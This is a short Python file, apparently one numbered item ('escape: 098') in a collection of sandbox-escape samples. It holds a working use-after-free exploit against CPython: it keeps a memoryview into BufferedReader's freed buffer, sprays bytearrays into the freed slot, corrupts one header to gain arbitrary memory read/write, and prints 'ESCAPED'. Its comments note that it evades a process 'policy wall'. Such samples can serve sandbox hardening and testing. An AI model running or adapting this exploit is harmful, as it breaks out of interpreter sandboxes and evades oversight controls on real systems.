# escape: 098
# policy-wall: optional; it rewrites its own process, which the wall takes as broken
# technique: raw.readinto() keeps the memoryview of BufferedReader's freed buffer; a new bytearray lands in it: use after free -> arbitrary read/write
# family: memory
# goal: memory
# first-seen: CPython issues 60198 / 157075; pwn3.org CPython UAF (2023)
import io, struct
class R(io.RawIOBase):
    def readable(s): return True
    def readinto(s, b): s.v = b; return 1
r = R()
b = io.BufferedReader(r, 56)
b.peek(1); v = r.v
b.detach(); del b
keep = [bytearray() for _ in range(64)]
t = struct.unpack('<7Q', bytes(v[:56]))
if t[1] == id(bytearray):
    v[16:24] = struct.pack('<Q', (1 << 63) - 1)
    for x in keep:
        if len(x) > 9:
            v[32:48] = struct.pack('<QQ', 0, 0)
            s = 'needle-uaf-string'
            if bytes(x[id(s):id(s) + 80]).find(b'needle-uaf') > 0: print('ESCAPED:arbitrary read by UAF')
            v[16:48] = struct.pack('<4Q', 0, 0, 0, 0)
